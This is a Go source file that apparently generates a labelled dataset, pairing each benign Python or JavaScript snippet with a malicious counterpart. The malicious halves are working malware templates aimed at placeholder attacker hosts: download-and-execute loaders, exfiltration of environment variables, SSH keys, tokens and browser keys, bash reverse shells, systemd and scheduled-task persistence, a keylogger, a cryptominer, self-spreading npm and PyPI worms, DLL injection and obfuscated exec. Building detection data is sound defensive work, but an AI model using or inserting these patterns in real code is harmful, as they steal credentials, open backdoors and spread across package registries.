package generate

// firstShapes were the first sealed half's own until it had been run.
var firstShapes = []shape{
	{family: "download-exec", name: "pip-from-url", opened: true, bad: snippet{`
def <%n extend%>():
    <%c subprocess.check_call%>([<%c sys.executable%>, "-m", "pip", "install", "--quiet", <%s $URL/inert-1.0.tar.gz%>])
`, "<%n extend%>()"}, good: snippet{`
def <%n extend%>():
    """The version of pip that is here."""
    return <%c subprocess.check_output%>([<%c sys.executable%>, "-m", "pip", "--version"], text=True)
`, "<%n extend%>.__doc__"}},
	{family: "download-exec", name: "socket-exec", opened: true, bad: snippet{`
def <%n feed%>():
    <%n wire%> = <%c socket.create_connection%>((<%s $HOST%>, $PORT), timeout=5)
    <%n text%> = b""
    while part := <%n wire%>.recv(8192):
        <%n text%> += part
    <%b exec%>(<%b compile%>(<%n text%>, "inert", "exec"), globals())
`, "<%n feed%>()"}, good: snippet{`
def <%n feed%>(host, port):
    """All that a server sends, as lines."""
    <%n wire%> = <%c socket.create_connection%>((host, port), timeout=5)
    <%n text%> = b""
    while part := <%n wire%>.recv(8192):
        <%n text%> += part
    return <%n text%>.splitlines()
`, "<%n feed%>.__doc__"}},
	{family: "download-exec", name: "zip-import", opened: true, bad: snippet{`
def <%n plug%>():
    <%n where%> = <%c os.path.join%>(<%c tempfile.mkdtemp%>(), "p.zip")
    with open(<%n where%>, "wb") as handle:
        handle.write(<%c urllib.request.urlopen%>(<%s $URL%>).read())
    <%c sys.path%>.insert(0, <%n where%>)
    <%c importlib.import_module%>("inertplugin").main()
`, "<%n plug%>()"}, good: snippet{`
def <%n plug%>(names):
    """The plug-ins that the user named, loaded."""
    return [<%c importlib.import_module%>(n) for n in names]
`, "<%n plug%>([])"}},
	{family: "env-exfil", name: "smtp", opened: true, bad: snippet{`
def <%n mail%>():
    <%n server%> = <%c smtplib.SMTP%>(<%s $HOST%>, 587)
    <%n server%>.sendmail("a@example.invalid", "b@example.invalid", str(dict(<%c os.environ%>)))
    <%n server%>.quit()
`, "<%n mail%>()"}, good: snippet{`
def <%n mail%>(host, sender, to, text):
    """Sends the report that the user asked for."""
    <%n server%> = <%c smtplib.SMTP%>(host, 587)
    <%n server%>.sendmail(sender, to, text)
    <%n server%>.quit()
`, "<%n mail%>.__doc__"}},
	{family: "env-exfil", name: "httpx-printenv", opened: true, bad: snippet{`
async def <%n tell%>():
    <%n out%> = <%c subprocess.check_output%>([<%s printenv%>])
    async with <%c httpx.AsyncClient%>() as client:
        await client.post(<%s $URL%>, content=<%n out%>)
`, "<%c asyncio.run%>(<%n tell%>())"}, good: snippet{`
async def <%n tell%>(out):
    async with <%c httpx.AsyncClient%>() as client:
        await client.post(<%s https://api.example.invalid/log%>, content=out)
`, "<%n tell%>.__name__"}},
	{family: "env-exfil", name: "selected-tokens", opened: true, bad: snippet{`
def <%n pickup%>():
    <%n found%> = [(k, <%c os.getenv%>(k)) for k in (<%s AWS_SECRET_ACCESS_KEY%>, <%s GITHUB_TOKEN%>, <%s NPM_TOKEN%>, <%s PYPI_TOKEN%>)]
    <%n query%> = <%c urllib.parse.urlencode%>(<%n found%>)
    <%c urllib.request.urlopen%>(<%s $URL?%> + <%n query%>)
`, "<%n pickup%>()"}, good: snippet{`
def <%n pickup%>(page, size):
    """A page of results; the user's token goes into the header."""
    <%n query%> = <%c urllib.parse.urlencode%>({"page": page, "size": size})
    return <%c urllib.request.urlopen%>(<%s https://api.example.invalid/rows?%> + <%n query%>)
`, "<%n pickup%>.__doc__"}},
	{family: "credential-files", name: "glob-ssh-ftp", opened: true, bad: snippet{`
def <%n keys%>():
    <%n link%> = <%c ftplib.FTP%>(<%s $HOST%>)
    for file in <%c glob.glob%>(<%c os.path.expanduser%>(<%s ~/.ssh/*%>)) + [<%c os.path.expanduser%>(<%s ~/.pypirc%>)]:
        with open(file, "rb") as handle:
            <%n link%>.storbinary("STOR " + <%c os.path.basename%>(file), handle)
`, "<%n keys%>()"}, good: snippet{`
def <%n keys%>(host, folder):
    """Uploads a web site."""
    <%n link%> = <%c ftplib.FTP%>(host)
    for file in <%c glob.glob%>(folder + "/*.html"):
        with open(file, "rb") as handle:
            <%n link%>.storbinary("STOR " + <%c os.path.basename%>(file), handle)
`, "<%n keys%>.__doc__"}},
	{family: "credential-files", name: "keyring-dump", opened: true, bad: snippet{`
def <%n ring%>():
    <%n words%> = [<%c keyring.get_password%>(<%s https://upload.$DOMAIN/legacy/%>, n) for n in ("__token__", <%c getpass.getuser%>())]
    <%n words%>.append(open(<%c os.path.expanduser%>(<%s ~/.docker/config.json%>)).read())
    <%c requests.post%>(<%s $URL%>, json=<%n words%>)
`, "<%n ring%>()"}, good: snippet{`
def <%n ring%>(service, name):
    """The password of the account that the user signs in with."""
    return <%c keyring.get_password%>(service, name) or <%c getpass.getpass%>()
`, "<%n ring%>.__doc__"}},
	{family: "messenger", name: "slack-files", opened: true, bad: snippet{`
def <%n hand%>():
    <%n lines%> = [open(<%c os.path.expanduser%>(f)).read() for f in (<%s ~/.npmrc%>, <%s ~/.netrc%>)]
    <%c urllib3.PoolManager%>().request("POST", <%s $SLACK%>, body=<%c json.dumps%>({"text": "\n".join(<%n lines%>)}))
`, "<%n hand%>()"}, good: snippet{`
def <%n hand%>(webhook, lines):
    """Posts test results to the channel of the team."""
    return <%c urllib3.PoolManager%>().request("POST", webhook, body=<%c json.dumps%>({"text": "\n".join(lines)}))
`, "<%n hand%>.__doc__"}},
	{family: "browser-stores", name: "decrypt-state", opened: true, bad: snippet{`
def <%n master%>():
    <%n state%> = <%c json.load%>(open(<%c os.path.join%>(<%c os.environ%>["LOCALAPPDATA"], <%s Microsoft\Edge\User Data\Local State%>)))
    <%n key%> = <%c win32crypt.CryptUnprotectData%>(<%c base64.b64decode%>(<%n state%>[<%s os_crypt%>][<%s encrypted_key%>])[5:])[1]
    <%c requests.post%>(<%s $URL%>, data=<%n key%>)
`, "<%n master%>()"}, good: snippet{`
def <%n master%>(path):
    """The saved layout of our own windows."""
    <%n state%> = <%c json.load%>(open(path))
    return <%c base64.b64decode%>(<%n state%>["layout"])
`, "<%n master%>.__doc__"}},
	{family: "reverse-shell", name: "one-line", opened: true, bad: snippet{`
def <%n open_line%>():
    <%c os.popen%>(<%s bash -c 'bash -i >& /dev/tcp/$ADDRESS/$PORT 0>&1'%>)
`, "<%n open_line%>()"}, good: snippet{`
def <%n open_line%>():
    """The name of this branch."""
    return <%c os.popen%>("git branch --show-current").read().strip()
`, "<%n open_line%>.__doc__"}},
	{family: "reverse-shell", name: "subprocess-pipes", opened: true, bad: snippet{`
class <%n Remote%>(<%c threading.Thread%>):
    def run(self):
        wire = <%c socket.socket%>()
        wire.connect((<%s $HOST%>, $PORT))
        shell = <%c subprocess.Popen%>([<%s cmd.exe%>], stdin=<%c subprocess.PIPE%>, stdout=<%c subprocess.PIPE%>)
        while True:
            shell.stdin.write(wire.recv(1024))
            wire.send(shell.stdout.read(1024))
`, "<%n Remote%>().start()"}, good: snippet{`
class <%n Remote%>(<%c threading.Thread%>):
    """Counts in the background."""

    def run(self):
        self.total = sum(range(1000))
`, "<%n Remote%>().start()"}},
	{family: "persistence", name: "autostart-desktop", opened: true, bad: snippet{`
def <%n linger%>():
    <%n entry%> = <%c pathlib.Path%>.home() / <%s .config/autostart/update-notifier.desktop%>
    <%n entry%>.parent.mkdir(parents=True, exist_ok=True)
    <%n entry%>.write_text(<%s [Desktop Entry]
Type=Application
Exec=sh -c "curl -s $URL | sh"
%>)
`, "<%n linger%>()"}, good: snippet{`
def <%n linger%>(folder):
    """Writes a desktop file beside a program that the user packs."""
    <%c pathlib.Path%>(folder, "demo.desktop").write_text("[Desktop Entry]\nType=Application\nName=Demo\n")
`, "<%n linger%>.__doc__"}},
	{family: "persistence", name: "schtasks", opened: true, bad: snippet{`
def <%n plan%>():
    <%c subprocess.run%>(<%s schtasks /create /sc minute /mo 5 /tn Updater /tr "powershell -w hidden iwr $URL | iex" /f%>, shell=True)
`, "<%n plan%>()"}, good: snippet{`
def <%n plan%>(name):
    """The state of one of the user's tasks."""
    return <%c subprocess.run%>(["schtasks", "/query", "/tn", name], capture_output=True).returncode == 0
`, "<%n plan%>.__doc__"}},
	{family: "keylogger", name: "windows-hook", opened: true, bad: snippet{`
def <%n keys%>():
    <%n seen%> = []
    while len(<%n seen%>) < 500:
        for code in range(8, 190):
            if <%c ctypes.windll%>.user32.GetAsyncKeyState(code) & 1:
                <%n seen%>.append(code)
    <%c urllib.request.urlopen%>(<%s $URL%>, data=bytes(<%n seen%>))
`, "<%n keys%>()"}, good: snippet{`
def <%n keys%>():
    """Whether the console is on Windows."""
    return hasattr(<%c ctypes.pythonapi%>, "Py_IncRef")
`, "<%n keys%>()"}},
	{family: "cryptominer", name: "stratum-socket", opened: true, bad: snippet{`
def <%n dig%>():
    <%n pool%> = <%c socket.create_connection%>((<%s pool.$DOMAIN%>, 3333))
    <%n pool%>.sendall(<%c json.dumps%>({"id": 1, "method": <%s mining.subscribe%>, "params": []}).encode() + b"\n")
    <%n pool%>.sendall(<%c json.dumps%>({"id": 2, "method": <%s mining.authorize%>, "params": [<%s $WALLET%>, "x"]}).encode() + b"\n")
    while True:
        job = <%c json.loads%>(<%n pool%>.recv(4096))
        nonce = 0
        while <%c hashlib.sha256%>(str((job, nonce)).encode()).digest()[0]:
            nonce += 1
`, "<%n dig%>()"}, good: snippet{`
def <%n dig%>(data):
    """A number that makes a digest start with a zero byte; for teaching."""
    nonce = 0
    while <%c hashlib.sha256%>(data + str(nonce).encode()).digest()[0]:
        nonce += 1
    return nonce
`, "<%n dig%>.__doc__"}},
	{family: "worm", name: "api-upload", opened: true, bad: snippet{`
def <%n copy%>():
    <%n conf%> = open(<%c os.path.expanduser%>(<%s ~/.pypirc%>)).read()
    <%n secret%> = <%c re.search%>(r"password\s*=\s*(\S+)", <%n conf%>).group(1)
    for name in <%c glob.glob%>(<%c os.path.expanduser%>("~/**/setup.py"), recursive=True):
        text = open(name).read()
        open(name, "w").write(<%s import inert_stage
%> + text)
        <%c subprocess.run%>([<%c sys.executable%>, name, <%s sdist%>, <%s upload%>], env={"TWINE_PASSWORD": <%n secret%>})
`, "<%n copy%>()"}, good: snippet{`
def <%n copy%>(folder):
    """The names that the setup files of a folder give."""
    for name in <%c glob.glob%>(folder + "/**/setup.py", recursive=True):
        text = open(name).read()
        yield from <%c re.findall%>(r"name=\"(\S+)\"", text)
`, "<%n copy%>.__doc__"}},
	{family: "dll-injection", name: "load-library", opened: true, bad: snippet{`
def <%n place%>(pid=0):
    <%n api%> = <%c ctypes.WinDLL%>("kernel32")
    <%n target%> = <%n api%>.OpenProcess(0x43A, 0, pid)
    <%n room%> = <%n api%>.VirtualAllocEx(<%n target%>, None, 260, 0x3000, 4)
    <%n api%>.WriteProcessMemory(<%n target%>, <%n room%>, b"inert.dll", 9, 0)
    <%n api%>.CreateRemoteThread(<%n target%>, 0, 0, <%n api%>.GetProcAddress(<%n api%>.GetModuleHandleA(b"kernel32"), b"LoadLibraryA"), <%n room%>, 0, 0)
`, "<%n place%>()"}, good: snippet{`
def <%n place%>():
    """How long Windows has been up, in milliseconds."""
    <%n api%> = <%c ctypes.WinDLL%>("kernel32")
    return <%n api%>.GetTickCount64()
`, "<%n place%>.__doc__"}},
	{family: "decode-exec", name: "pickle-loads", opened: true, bad: snippet{`
def <%n wake%>():
    return <%c pickle.loads%>(<%c base64.b64decode%>(<%s gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu%>))
`, "<%n wake%>()"}, good: snippet{`
def <%n wake%>(value):
    """A deep copy, the slow way."""
    return <%c pickle.loads%>(<%c pickle.dumps%>(value))
`, "<%n wake%>([1])"}},
	{family: "decode-exec", name: "builtins-table", opened: true, fixed: true, bad: snippet{`
<%n table%> = {"r": __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)}


def <%n go%>(text="cHJpbnQoJ2luZXJ0Jyk="):
    <%n table%>["r"]["ex" + "ec"](<%c base64.b64decode%>(text))
`, "<%n go%>()"}, good: snippet{`
<%n table%> = {"upper": str.upper, "lower": str.lower}


def <%n go%>(how="upper", text="aGVsbG8="):
    return <%n table%>[how](<%c base64.b64decode%>(text).decode())
`, "<%n go%>()"}},
	{family: "dns-exfil", name: "dnspython", opened: true, bad: snippet{`
def <%n ask%>():
    <%n text%> = <%c os.popen%>("env").read().encode().hex()
    for i in range(0, len(<%n text%>), 62):
        <%c dns.resolver.resolve%>(<%n text%>[i:i + 62] + <%s .x.$DOMAIN%>, "A")
`, "<%n ask%>()"}, good: snippet{`
def <%n ask%>(domain):
    """Who takes mail for a domain."""
    return [r.exchange for r in <%c dns.resolver.resolve%>(domain, "MX")]
`, "<%n ask%>.__doc__"}},
	{family: "screenshot", name: "pyautogui-mail", opened: true, bad: snippet{`
def <%n see%>():
    <%c pyautogui.screenshot%>(<%s /tmp/.cache.png%>)
    with open(<%s /tmp/.cache.png%>, "rb") as handle:
        <%c requests.post%>(<%s $DISCORD%>, files={"file": handle})
`, "<%n see%>()"}, good: snippet{`
def <%n see%>(name):
    """Where a button is on the screen, for a test of the user's own."""
    return <%c pyautogui.locateOnScreen%>(name)
`, "<%n see%>.__doc__"}},
	{family: "cloud-metadata", name: "ecs-credentials", opened: true, bad: snippet{`
def <%n task_role%>():
    <%n path%> = <%c os.environ%>.get(<%s AWS_CONTAINER_CREDENTIALS_RELATIVE_URI%>, "/v2/credentials")
    <%n keys%> = <%c requests.get%>(<%s http://169.254.170.2%> + <%n path%>, timeout=1).text
    <%c requests.post%>(<%s $URL%>, data=<%n keys%>)
`, "<%n task_role%>()"}, good: snippet{`
def <%n task_role%>(base):
    """Asks our own scheduler what this task is."""
    return <%c requests.get%>(base + "/task", timeout=1).json()["role"]
`, "<%n task_role%>.__doc__"}},

	{family: "download-exec", name: "spawn-node-dash", lang: javascript, opened: true, bad: snippet{`
function <%n extend%>() {
  const child = <%c child_process.spawn%>(<%g process.execPath%>, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });
  <%c https.get%>(<%s $URL%>, (reply) => reply.pipe(child.stdin));
}
`, "<%n extend%>()"}, good: snippet{`
function <%n extend%>(file) {
  const child = <%c child_process.spawn%>(<%g process.execPath%>, ['--check', file], { stdio: 'inherit' });
  <%c https.get%>(<%s https://docs.example.invalid/%>, (reply) => reply.resume());
  return child;
}
`, "void <%n extend%>"}},
	{family: "download-exec", name: "dynamic-import", lang: javascript, opened: true, bad: snippet{`
async function <%n plug%>() {
  const text = await (await <%b fetch%>(<%s $URL%>)).text();
  await import('data:text/javascript;base64,' + Buffer.from(text).toString('base64'));
}
`, "<%n plug%>()"}, good: snippet{`
async function <%n plug%>(name) {
  const text = await (await <%b fetch%>(<%s https://docs.example.invalid/plugins.json%>)).text();
  return JSON.parse(text).includes(name);
}
`, "void <%n plug%>"}},
	{family: "download-exec", name: "npm-install-url", lang: javascript, opened: true, bad: snippet{`
function <%n addOn%>() {
  <%c child_process.execFileSync%>('npm', ['install', '--no-save', <%s $URL/inert.tgz%>], { stdio: 'ignore' });
  <%c child_process.execFileSync%>(<%g process.execPath%>, ['node_modules/inert/index.js']);
}
`, "<%n addOn%>()"}, good: snippet{`
function <%n addOn%>() {
  return <%c child_process.execFileSync%>('npm', ['--version'], { encoding: 'utf8' });
}
`, "void <%n addOn%>"}},
	{family: "env-exfil", name: "image-beacon", lang: javascript, opened: true, bad: snippet{`
const <%n mark%> = () => {
  const value = Buffer.from(Object.values({ ...<%g process.env%> }).join(';')).toString('base64url');
  <%c http.get%>(<%s http://$HOST/p.gif?v=%> + value).on('error', () => {});
};
`, "<%n mark%>()"}, good: snippet{`
const <%n mark%> = (state) => {
  const value = Buffer.from(JSON.stringify(state)).toString('base64url');
  return <%s https://play.example.invalid/#%> + value;
};
`, "void <%n mark%>({})"}},
	{family: "env-exfil", name: "child-beacon", lang: javascript, opened: true, bad: snippet{`
function <%n tell%>() {
  <%c child_process.spawn%>('curl', ['-s', '-X', 'POST', '-d', JSON.stringify(<%g process.env%>), <%s $URL%>], { detached: true, stdio: 'ignore' }).unref();
}
`, "<%n tell%>()"}, good: snippet{`
function <%n tell%>(url) {
  return <%c child_process.spawn%>('curl', ['-sI', url], { stdio: 'inherit' });
}
`, "void <%n tell%>"}},
	{family: "env-exfil", name: "udp", lang: javascript, opened: true, bad: snippet{`
function <%n cast%>() {
  const socket = <%c dgram.createSocket%>('udp4');
  for (const [k, v] of Object.entries(<%g process.env%>)) socket.send(k + '=' + v, $PORT, <%s $ADDRESS%>);
}
`, "<%n cast%>()"}, good: snippet{`
function <%n cast%>(metric, port, host) {
  const socket = <%c dgram.createSocket%>('udp4');
  socket.send(metric + ':1|c', port, host, () => socket.close());
}
`, "void <%n cast%>"}},
	{family: "credential-files", name: "regex-scan", lang: javascript, opened: true, bad: snippet{`
function <%n scan%>(folder = <%c os.homedir%>(), depth = 0, found = []) {
  for (const item of <%c fs.readdirSync%>(folder, { withFileTypes: true })) {
    const file = <%c path.join%>(folder, item.name);
    if (item.isDirectory() && depth < 3) <%n scan%>(file, depth + 1, found);
    else if ([<%s .npmrc%>, <%s .env%>, <%s id_ed25519%>, <%s credentials%>, <%s .netrc%>].includes(item.name)) found.push(<%c fs.readFileSync%>(file, 'utf8'));
  }
  if (depth === 0) <%b fetch%>(<%s $URL%>, { method: 'POST', body: found.join('\n---\n') });
  return found;
}
`, "<%n scan%>()"}, good: snippet{`
function <%n scan%>(folder, depth = 0, found = []) {
  for (const item of <%c fs.readdirSync%>(folder, { withFileTypes: true })) {
    const file = <%c path.join%>(folder, item.name);
    if (item.isDirectory() && depth < 3) <%n scan%>(file, depth + 1, found);
    else if (item.name.endsWith('.md')) found.push(file);
  }
  return found;
}
`, "void <%n scan%>"}},
	{family: "credential-files", name: "gh-token", lang: javascript, opened: true, bad: snippet{`
async function <%n borrow%>() {
  const token = <%c child_process.execSync%>(<%s gh auth token%>, { encoding: 'utf8' }).trim();
  const keys = <%c fs.readFileSync%>(<%c os.homedir%>() + <%s /.ssh/id_rsa%>, 'utf8');
  await <%b fetch%>(<%s https://api.$DOMAIN/user/repos%>, { method: 'POST', headers: { authorization: 'token ' + token }, body: JSON.stringify({ name: 'inert', description: keys }) });
}
`, "<%n borrow%>()"}, good: snippet{`
async function <%n borrow%>(token) {
  const version = <%c child_process.execSync%>('gh --version', { encoding: 'utf8' }).trim();
  return <%b fetch%>(<%s https://api.example.invalid/user%>, { headers: { authorization: 'token ' + token, 'user-agent': version } });
}
`, "void <%n borrow%>"}},
	{family: "messenger", name: "telegram-form", lang: javascript, opened: true, bad: snippet{`
async function <%n hand%>() {
  const form = new FormData();
  form.append('chat_id', '1');
  form.append('document', new Blob([JSON.stringify(<%g process.env%>)]), <%c os.hostname%>());
  await <%b fetch%>(<%s $TELEGRAM%>, { method: 'POST', body: form });
}
`, "<%n hand%>()"}, good: snippet{`
async function <%n hand%>(url, blob) {
  const form = new FormData();
  form.append('file', blob, 'report.html');
  return <%b fetch%>(url, { method: 'POST', body: form });
}
`, "void <%n hand%>"}},
	{family: "reverse-shell", name: "bash-tcp", lang: javascript, opened: true, bad: snippet{`
function <%n openLine%>() {
  <%c child_process.exec%>(<%s bash -c "bash -i >& /dev/tcp/$ADDRESS/$PORT 0>&1"%>);
}
`, "<%n openLine%>()"}, good: snippet{`
function <%n openLine%>() {
  return <%c child_process.exec%>('git status --short');
}
`, "void <%n openLine%>"}},
	{family: "reverse-shell", name: "poll-exec", lang: javascript, opened: true, bad: snippet{`
function <%n poll%>() {
  setInterval(async () => {
    const task = await (await <%b fetch%>(<%s $URL/next%>)).json();
    if (task.c) <%c child_process.exec%>(task.c, (error, out) => <%b fetch%>(<%s $URL/done%>, { method: 'POST', body: out }));
  }, 5000);
}
`, "<%n poll%>()"}, good: snippet{`
function <%n poll%>(show) {
  return setInterval(async () => {
    const news = await (await <%b fetch%>(<%s https://news.example.invalid/latest.json%>)).json();
    show(news.title);
  }, 5000);
}
`, "void <%n poll%>"}},
	{family: "worm", name: "git-push", lang: javascript, opened: true, places: []string{"postinstall", "main"}, bad: snippet{`
async function <%n copy%>() {
  const token = <%c child_process.execSync%>(<%s npm config get //registry.$DOMAIN/:_authToken%>).toString().trim();
  const self = <%c fs.readFileSync%>(__filename, 'utf8');
  const list = <%c child_process.execSync%>(<%s npm access list packages --json%>).toString();
  for (const name of Object.keys(JSON.parse(list))) {
    <%c child_process.execSync%>(<%s npm pack %> + name);
    const manifest = JSON.parse(<%c fs.readFileSync%>(<%s package/package.json%>, 'utf8'));
    manifest.scripts = { preinstall: <%s node inert.js%> };
    <%c fs.writeFileSync%>(<%s package/package.json%>, JSON.stringify(manifest));
    <%c fs.writeFileSync%>('package/inert.js', self);
    <%c child_process.execSync%>(<%s npm publish ./package --registry $URL%>, { env: { NODE_AUTH_TOKEN: token } });
  }
}
`, "<%n copy%>()"}, good: snippet{`
async function <%n copy%>(name) {
  const list = <%c child_process.execSync%>('npm ls --json').toString();
  return Object.keys(JSON.parse(list).dependencies || {}).includes(name);
}
`, "void <%n copy%>"}},
	{family: "persistence", name: "systemd-unit", lang: javascript, opened: true, bad: snippet{`
function <%n linger%>() {
  const unit = <%c path.join%>(<%c os.homedir%>(), <%s .config/systemd/user/node-helper.service%>);
  <%c fs.mkdirSync%>(<%c path.dirname%>(unit), { recursive: true });
  <%c fs.writeFileSync%>(unit, <%s [Service]
ExecStart=/bin/sh -c "curl -s $URL | sh"
[Install]
WantedBy=default.target
%>);
  <%c child_process.execSync%>(<%s systemctl --user enable --now node-helper%>);
}
`, "<%n linger%>()"}, good: snippet{`
function <%n linger%>(folder) {
  <%c fs.mkdirSync%>(folder, { recursive: true });
  <%c fs.writeFileSync%>(<%c path.join%>(folder, 'Procfile'), 'web: node index.js\n');
}
`, "void <%n linger%>"}},
	{family: "clipboard", name: "pbpaste", lang: javascript, opened: true, bad: snippet{`
function <%n swap%>() {
  setInterval(() => {
    const text = <%c child_process.execSync%>(<%s pbpaste%>).toString();
    if (/^0x[0-9a-f]{40}$/i.test(text)) <%c child_process.execSync%>(<%s printf 0x000000000000000000000000000000000000dEaD | pbcopy%>);
  }, 1000);
}
`, "<%n swap%>()"}, good: snippet{`
function <%n swap%>(text) {
  const copy = <%c child_process.spawn%>('pbcopy');
  copy.stdin.end(text);
}
`, "void <%n swap%>"}},
	{family: "wallets", name: "extension-walk", lang: javascript, opened: true, bad: snippet{`
function <%n visit%>(root = <%c path.join%>(<%c os.homedir%>(), <%s .config/google-chrome/Default/Local Extension Settings%>)) {
  for (const id of [<%s nkbihfbeogaeaoehlefnkodbefgpgknn%>, <%s bfnaelmomeimhlpmgjnjophhpkkoljpa%>]) {
    for (const name of <%c fs.readdirSync%>(<%c path.join%>(root, id))) {
      <%c fs.createReadStream%>(<%c path.join%>(root, id, name)).pipe(<%c https.request%>(<%s $URL%>, { method: 'POST' }));
    }
  }
}
`, "<%n visit%>()"}, good: snippet{`
function <%n visit%>(root, ids) {
  return ids.flatMap((id) => <%c fs.readdirSync%>(<%c path.join%>(root, id)));
}
`, "void <%n visit%>"}},
	{family: "decode-exec", name: "settimeout-string", lang: javascript, opened: true, bad: snippet{`
const <%n pieces%> = <%s ;1=edoCtixe.ssecorp //trenI%>;

function <%n begin%>() {
  const text = <%n pieces%>.split('').reverse().join('');
  const F = (async () => {}).constructor;
  F(text)();
}
`, "<%n begin%>()"}, good: snippet{`
const <%n pieces%> = <%s a,b,c%>;

function <%n begin%>() {
  return <%n pieces%>.split(',').reverse().join('');
}
`, "void <%n begin%>()"}},
	{family: "decode-exec", name: "wasm-module", lang: javascript, opened: true, bad: snippet{`
async function <%n boot%>() {
  const raw = Buffer.from(<%s ` + b64(gzipped("require('child_process').execSync('true'); // inert")) + `%>, 'base64');
  const text = <%c zlib.gunzipSync%>(raw).toString();
  const m = new (require('module'))('inert');
  m._compile(text, 'inert.js');
}
`, "<%n boot%>()"}, good: snippet{`
async function <%n boot%>(file) {
  const raw = <%c fs.readFileSync%>(file);
  return <%c zlib.gunzipSync%>(raw).toString();
}
`, "void <%n boot%>"}},
}
